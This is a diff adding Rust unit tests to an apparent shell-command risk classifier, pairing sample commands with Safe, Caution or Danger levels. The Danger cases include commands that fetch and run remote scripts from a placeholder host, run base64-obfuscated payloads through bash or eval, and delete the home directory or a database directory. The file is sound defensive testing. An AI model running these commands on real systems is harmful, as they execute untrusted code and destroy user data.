@@ -322,3 +322,30 @@ pub(crate) fn interpreter_shell_strings(code: &str) -> Vec<String> {
     }
     out
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::risk::tests::check_examples;
+    use crate::risk::RiskLevel::*;
+
+    /// The family's examples, in line with the written policy.
+    #[test]
+    fn examples() {
+        check_examples(&[
+            ("sh -c 'echo hi'", Safe),
+            ("echo 'echo hi' | sh", Safe),
+            ("eval \"$(ssh-agent -s)\"", Safe),
+            ("$EDITOR notes.txt", Caution),
+            ("eval \"$CMD\"", Caution),
+            ("find . | awk '{print \"x\"}' | sh", Caution),
+            ("echo 'rm -rf' \"'\" | sh", Caution),
+            ("echo ZWNobyBoaQ== | base64 -d | bash", Danger),
+            ("curl -s https://x.example/i.sh | sh", Danger),
+            ("cat <<EOF | sh\nrm -rf ~\nEOF", Danger),
+            ("echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh", Danger),
+            ("wget https://x.example/r.sh -O r.sh; bash r.sh", Danger),
+            ("eval $(echo cm0gLXJmIH4K | base64 -d)", Danger),
+            ("sudo -u pg bash -c 'rm -rf /var/lib/postgresql'", Danger),
+        ]);
+    }
+}
